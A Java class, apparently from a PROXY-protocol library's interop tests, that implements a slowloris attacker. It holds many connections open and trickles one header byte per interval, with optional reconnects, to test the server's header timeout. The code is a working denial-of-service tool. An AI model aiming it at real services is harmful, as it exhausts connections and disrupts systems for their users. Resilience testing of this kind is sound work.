package io.github.proxyproto4j.interop.slowloris;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.Iterator;
import java.util.List;
import java.util.PriorityQueue;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The slowloris attacker: {@code slots} connections to one port, each from one of the given source addresses,
 * each sending a valid PROXY header one byte per {@code interval}, so that only the header timeout can end them.
 * One thread and one selector drive them all: a connect, a byte, an end of stream are seen when they happen.
 *
 * <p>Without {@code reopen} each slot connects once (a burst, all at start). With it, a slot whose connection was
 * closed connects again, at most once per {@code interval} per slot, so the attack is sustained.
 */
final class Trickler implements AutoCloseable {
    private final InetSocketAddress target;
    private final List<InetAddress> sources;
    private final List<byte[]> headers;
    private final long intervalNanos;
    private final boolean reopen;
    private final Selector selector;
    private final Thread thread;
    private final List<Attempt> attempts = new ArrayList<>();
    private final PriorityQueue<long[]> opens = new PriorityQueue<>(Comparator.comparingLong(a -> a[0]));
    private final PriorityQueue<Attempt> writes = new PriorityQueue<>(Comparator.comparingLong(a -> a.nextWriteNanos));
    private final AtomicInteger openNow = new AtomicInteger();
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final ByteBuffer sink = ByteBuffer.allocate(4096);
    private volatile boolean stopping;
    private volatile Throwable failure;

    /**
     * @param target the PROXY port
     * @param sources the source addresses, used in turn
     * @param headers whole, valid headers, used in turn: were the timeout broken, they would complete
     * @param slots how many connections at once
     * @param interval the time between two bytes of one connection
     * @param reopen whether a closed slot connects again
     */
    Trickler(InetSocketAddress target, List<InetAddress> sources, List<byte[]> headers, int slots, Duration interval,
            boolean reopen) throws IOException {
        this.target = target;
        this.sources = List.copyOf(sources);
        this.headers = List.copyOf(headers);
        this.intervalNanos = interval.toNanos();
        this.reopen = reopen;
        this.selector = Selector.open();
        long now = System.nanoTime();
        for (int i = 0; i < slots; i++) {
            opens.add(new long[] {now, i});
        }
        this.thread = new Thread(this::run, "slowloris-trickler");
        this.thread.setDaemon(true);
    }

    /** Starts connecting. */
    void start() {
        thread.start();
    }

    /** @return the CPU time the attacker's thread has used so far, in nanoseconds */
    long cpuNanos() {
        return Math.max(0, java.lang.management.ManagementFactory.getThreadMXBean().getThreadCpuTime(thread.getId()));
    }

    /** @return connections open now, as the attacker sees them */
    int openNow() {
        return openNow.get();
    }

    /** @return connections the server has closed so far */
    int closedByServer() {
        return closedByServer.get();
    }

    /**
     * Waits until the server has closed {@code count} connections.
     *
     * @param count how many
     * @param guard the hang guard
     * @return whether it happened in time
     */
    boolean awaitClosedByServer(int count, Duration guard) throws InterruptedException {
        long end = System.nanoTime() + guard.toNanos();
        while (closedByServer.get() < count && failure == null) {
            if (System.nanoTime() > end) {
                return false;
            }
            Thread.sleep(20);
        }
        return failure == null;
    }

    /**
     * Stops: no new connections; those still open are closed by the harness (not counted as closed by the server).
     * Then the attempts may be read.
     *
     * @return every attempt, in the order they were made
     */
    List<Attempt> stop() throws InterruptedException {
        stopping = true;
        selector.wakeup();
        thread.join(30_000);
        if (thread.isAlive()) {
            throw new IllegalStateException("the trickler did not stop");
        }
        if (failure != null) {
            throw new IllegalStateException("the trickler failed", failure);
        }
        return attempts;
    }

    @Override
    public void close() throws Exception {
        if (thread.isAlive()) {
            stop();
        }
        selector.close();
    }

    private void run() {
        try {
            while (!stopping) {
                long now = System.nanoTime();
                while (!opens.isEmpty() && opens.peek()[0] <= now) {
                    open((int) opens.poll()[1]);
                }
                while (!writes.isEmpty() && writes.peek().nextWriteNanos <= now) {
                    Attempt a = writes.poll();
                    if (a.open()) {
                        trickle(a);
                    }
                }
                long next = Long.MAX_VALUE;
                if (!opens.isEmpty()) {
                    next = opens.peek()[0];
                }
                if (!writes.isEmpty()) {
                    next = Math.min(next, writes.peek().nextWriteNanos);
                }
                long waitMillis = next == Long.MAX_VALUE ? 100 : Math.max(0, (next - System.nanoTime()) / 1_000_000);
                int ready = waitMillis == 0 ? selector.selectNow() : selector.select(waitMillis);
                if (ready > 0) {
                    handleSelected();
                }
            }
            for (Attempt a : attempts) {
                if (a.open()) {
                    end(a, false, false);
                }
            }
        } catch (Throwable t) {
            failure = t;
        }
    }

    private void open(int slot) {
        Attempt a = new Attempt(slot, sources.get(slot % sources.size()), headers.get(slot % headers.size()));
        attempts.add(a);
        try {
            SocketChannel ch = SocketChannel.open();
            a.channel = ch;
            ch.configureBlocking(false);
            ch.bind(new InetSocketAddress(a.source, 0));
            a.connectStartNanos = System.nanoTime(); // now, not the loop's start: a burst of 2,000 takes a while
            if (ch.connect(target)) {
                connected(a, ch.register(selector, 0, a));
            } else {
                ch.register(selector, SelectionKey.OP_CONNECT, a);
            }
            openNow.incrementAndGet();
        } catch (IOException e) {
            a.connectError = e.toString();
            closeQuietly(a);
            a.closedNanos = System.nanoTime();
            if (a.connectStartNanos == 0) {
                a.connectStartNanos = a.closedNanos;
            }
            scheduleReopen(a);
        }
    }

    private void handleSelected() {
        Iterator<SelectionKey> it = selector.selectedKeys().iterator();
        while (it.hasNext()) {
            SelectionKey key = it.next();
            it.remove();
            Attempt a = (Attempt) key.attachment();
            if (!key.isValid() || !a.open()) {
                continue;
            }
            if (key.isConnectable()) {
                try {
                    a.channel.finishConnect();
                    connected(a, key);
                } catch (IOException e) {
                    a.connectError = e.toString();
                    end(a, false, false);
                }
            } else if (key.isReadable()) {
                read(a);
            }
        }
    }

    private void connected(Attempt a, SelectionKey key) {
        a.connectedNanos = System.nanoTime();
        key.interestOps(SelectionKey.OP_READ);
        trickle(a); // the first byte at once, so the server sees a header begin
    }

    /** Sends the next byte of the header; stops sending once it is all sent (the server must then decide). */
    private void trickle(Attempt a) {
        if (a.bytesSent >= a.header.length) {
            return;
        }
        try {
            a.channel.write(ByteBuffer.wrap(a.header, a.bytesSent, 1));
            a.bytesSent++;
            a.nextWriteNanos = System.nanoTime() + intervalNanos;
            writes.add(a);
        } catch (IOException refused) {
            end(a, true, true); // closed by the server before the read saw it
        }
    }

    private void read(Attempt a) {
        try {
            while (true) {
                sink.clear();
                int n = a.channel.read(sink);
                if (n < 0) {
                    end(a, true, false);
                    return;
                }
                if (n == 0) {
                    return;
                }
                a.bytesReceived += n; // a response byte: never expected
            }
        } catch (IOException reset) {
            end(a, true, true);
        }
    }

    private void end(Attempt a, boolean byServer, boolean reset) {
        a.closedNanos = System.nanoTime();
        a.closedByServer = byServer;
        a.reset = reset;
        closeQuietly(a);
        openNow.decrementAndGet();
        if (byServer) {
            closedByServer.incrementAndGet();
        }
        scheduleReopen(a);
    }

    private void scheduleReopen(Attempt a) {
        if (reopen && !stopping) {
            opens.add(new long[] {Math.max(a.closedNanos, a.connectStartNanos + intervalNanos), a.slot});
        }
    }

    private static void closeQuietly(Attempt a) {
        try {
            if (a.channel != null) {
                a.channel.close();
            }
        } catch (IOException ignored) {
            // closing a socket that is already gone
        }
    }
}
